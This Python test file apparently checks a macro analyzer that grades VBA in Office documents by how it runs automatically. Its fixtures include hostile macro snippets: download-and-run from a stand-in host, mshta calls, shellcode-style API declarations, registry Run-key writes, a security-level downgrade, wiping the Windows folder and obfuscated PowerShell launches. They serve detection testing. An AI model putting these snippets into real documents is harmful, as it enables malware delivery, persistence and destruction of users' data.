"""Grades: from structure, never from a word alone."""

from pathlib import Path

import pytest

from sekisho.analyzers._macro_events import is_automatic
from sekisho.analyzers._macro_grade import assess

DOWNLOAD = """Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.com/p", False
x.send
Set s = CreateObject("ADODB.Stream")
s.Write x.responseBody
s.SaveToFile "C:\\Users\\Public\\p.exe", 2
"""
MEMORY = """Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As LongPtr) As LongPtr
"""

CALLBACK = """Private Declare PtrSafe Function HeapCreate Lib "kernel32" (ByVal o As Long) As LongPtr
Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal p As LongPtr, ByVal f As Long) As Long
"""


def sub(name, body):
    return f"Sub {name}()\n{body}\nEnd Sub\n"


def grade(source, module="ThisDocument", **options):
    return assess([(module, source)], **options).grade


def reasons(source, module="ThisDocument"):
    return assess([(module, source)]).reasons


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("", "none"),
        ('Attribute VB_Name = "x"', "none"),
        (sub("FormatTable", 'Range("A1").Font.Bold = True\nActiveSheet.PrintOut'), "inert"),
        (sub("Export", 'Open "C:\\x.bat" For Output As #1: Print #1, "x": Close'), "inert"),
        (sub("OpenFolder", 'Shell "explorer.exe " & ThisWorkbook.Path'), "inert"),
        (sub("Workbook_Open", 'MsgBox "hello"\nSheets(1).Activate'), "auto_run"),
        (sub("Workbook_Open", 'Open ThisWorkbook.Path & "\\use.log" For Append As #1: Print #1, Now'), "auto_run"),
        (sub("Workbook_Open", 'Shell "notepad.exe"'), "auto_run"),
        (sub("Auto_Open", 'b.OnAction = "DoIt"') + sub("DoIt", 'Shell "tool.exe"'), "auto_run"),
        (sub("Worksheet_Change", 'Shell "tool.exe"'), "inert"),
        (sub("Document_Open", 'Shell "tool.exe", 0'), "auto_exec"),
        (
            sub("AutoOpen", "Stage") + sub("Stage", 'Application.OnTime Now, "Last"') + sub("Last", 'Shell "t.exe"'),
            "auto_exec",
        ),
        (sub("AutoClose", 'Open "C:\\x.vbs" For Output As #1: Print #1, "x": Close'), "auto_exec"),
        (sub("AutoOpen", 'CreateObject("WScript.Shell").RegWrite "HKCU\\x\\Run\\y", "z"'), "auto_exec"),
        (sub("Document_Close", 'NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString "x"'), "auto_exec"),
        (sub("InkEdit1_GotFocus", 'Shell "tool.exe"'), "auto_exec"),
        (sub("go", DOWNLOAD + 'Shell "C:\\Users\\Public\\p.exe"'), "auto_exec"),
        (sub("go", 'Shell "mshta http://example.com/a"'), "auto_exec"),
        (MEMORY + sub("AutoOpen", "x = VirtualAlloc(0)"), "auto_exec"),
        (CALLBACK + sub("AutoOpen", "EnumSystemLocalesA HeapCreate(0), 0"), "auto_exec"),
        (sub("Document_Open", 'Shell "power" & "shell -c calc", 0'), "obfuscated_exec"),
        (sub("Document_Open", 'CreateObject(StrReverse("llehS.tpircSW")).Run "calc"'), "obfuscated_exec"),
        (sub("Document_Open", "Shell UserForm1.TextBox1.Text"), "obfuscated_exec"),
        (sub("Document_Open", 'Shell ActiveDocument.BuiltInDocumentProperties("Comments")'), "obfuscated_exec"),
        (sub("Document_Open", 'CreateObject(d(ActiveDocument.Variables("a"))).Run "calc"'), "obfuscated_exec"),
    ],
)
def test_grades(source, expected):
    assert grade(source) == expected
    assert grade(source, whole=False) == expected


def test_a_word_macro_named_by_its_module():
    copying = sub("MAIN", 'WordBasic.MacroCopy "Global:AutoOpen", F$')
    assert grade(copying, "AutoOpen") == "auto_exec"
    assert grade(sub("MAIN", 'MsgBox "x"'), "AutoOpen") == "auto_run"
    assert grade(sub("MAIN", 'MsgBox "x"'), "Module1") == "inert"


def test_modules_are_followed_together():
    first = sub("Document_Open", "Module1.Start")
    second = sub("Start", 'Shell decode("dbmd"), 0') + (
        "Function decode(t)\nFor i = 1 To Len(t)\ndecode = decode & Chr(Asc(Mid(t, i, 1)) - 1)\nNext\nEnd Function\n"
    )
    found = assess([("ThisDocument", first), ("Module1", second)])
    assert found.grade == "auto_exec"
    assert found.trace.commands[0].text == "calc"


def test_reasons_name_what_was_found():
    found = reasons(sub("Document_Open", DOWNLOAD + 'Shell "C:\\Users\\Public\\p.exe"'))
    assert found[:4] == ("autoexec:Document_Open", "executes:Shell", "writes:SaveToFile", "downloads:XMLHTTP")
    assert "obfuscation:hidden(powershell)" in reasons(sub("AutoOpen", 'Shell "pow" & "ershell x"'))
    codes = " & ".join(f"Chr({ord(letter)})" for letter in "powershell -c calc")
    assert "obfuscation:char-code(18)" in reasons(sub("AutoOpen", f"Shell {codes}"))
    assert "writes-data:Open" in reasons(sub("AutoOpen", 'Open "a.csv" For Output As #1: Print #1, 1'))
    assert "on-demand:Shell" in reasons(sub("AutoOpen", "x = 1") + sub("Button1_Click", 'Shell "tool.exe"'))


def test_automatic_names():
    for name in (
        "autoopen",
        "workbook_open",
        "workbook_windowdeactivate",
        "filesave",
        "inkpicture1_painted",
        "f_layout",
    ):
        assert is_automatic(name, "thisdocument"), name
    for name in ("start", "button1_click", "worksheet_change", "userform_initialize", "autoopened", "my_open", "main"):
        assert not is_automatic(name, "thisdocument"), name


FOLDER = Path(__file__).parent / "macros"


def sources(kind):
    """The sources of one file by name; a line ``'=== name`` starts each."""
    parts = (FOLDER / f"{kind}.txt").read_text(encoding="utf-8").split("\n'=== ")[1:]
    return {name: source for name, _, source in (part.partition("\n") for part in parts)}


@pytest.mark.parametrize("kind", sorted(path.stem for path in FOLDER.glob("*.txt")))
def test_whole_sources_in_the_manner_of_both_kinds(kind):
    acts = kind.startswith("malicious")
    grades = {name: grade(source, whole=False) for name, source in sources(kind).items()}
    assert len(grades) >= 20
    assert not [name for name, found in grades.items() if (found in ("auto_exec", "obfuscated_exec")) is not acts]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (sub("Auto_Open", 'If Dir("x") = "" Then p = 1 Else p = 0\nIf p = 1 Then Shell "cmd /c x"'), "auto_exec"),
        (sub("Auto_Open", 'For Each c In Workbooks\nIf c.Name = "x" Then g = True\nNext\nIf Not g Then Shell "cmd /c x"'), "auto_exec"),
        (sub("Auto_Open", 'p = 0\nIf p = 1 Then Shell "cmd /c x"'), "auto_run"),
        (sub("Auto_Open", 'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Contoso\\Last", "z"'), "auto_run"),
        (sub("Auto_Open", 'System.PrivateProfileString("", "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\9.0\\Word\\Security", "Level") = 1'), "auto_exec"),
        (sub("Auto_Open", 'System.PrivateProfileString("a.ini", "x", "y") = 1'), "auto_run"),
        (sub("go", 'Kill "C:\\WINDOWS\\*.*"'), "auto_exec"),
        (sub("go", 'Kill "C:\\out\\*.*"'), "inert"),
        (sub("Auto_Open", 'Kill Environ("TEMP") & "\\mine_*.csv"'), "auto_run"),
        (sub("Auto_Open", 'Kill "D:\\letters\\*.doc"'), "auto_exec"),
        (sub("Auto_Open", 'Kill ThisWorkbook.Path & "\\out\\*.csv"'), "auto_run"),
        (sub("Auto_Open", 'Kill ThisWorkbook.Path & "\\*.xls"'), "auto_exec"),
        (sub("Auto_Open", 'Shell """C:\\Program Files\\A\\a.exe"" /x"'), "auto_run"),
        (sub("Auto_Open", 'ThisWorkbook.SaveCopyAs Application.StartupPath & "\\a.xls"'), "auto_exec"),
        (sub("Auto_Open", 'Range("A1").Formula = "=EXEC(""cmd /c x"")"'), "auto_exec"),
        (sub("Auto_Open", 'Range("A1").Formula = "=SUM(B1:B2)"'), "auto_run"),
    ],
)  # fmt: skip
def test_what_both_ways_of_a_branch_leave_and_what_counts(source, expected):
    assert grade(source) == expected


def test_a_path_of_many_drives_is_graded_at_once():
    path = "c:\\a\\" * 200
    assert grade(sub("Workbook_Open", f'Shell "{path}"'), "ThisWorkbook") == "auto_exec"
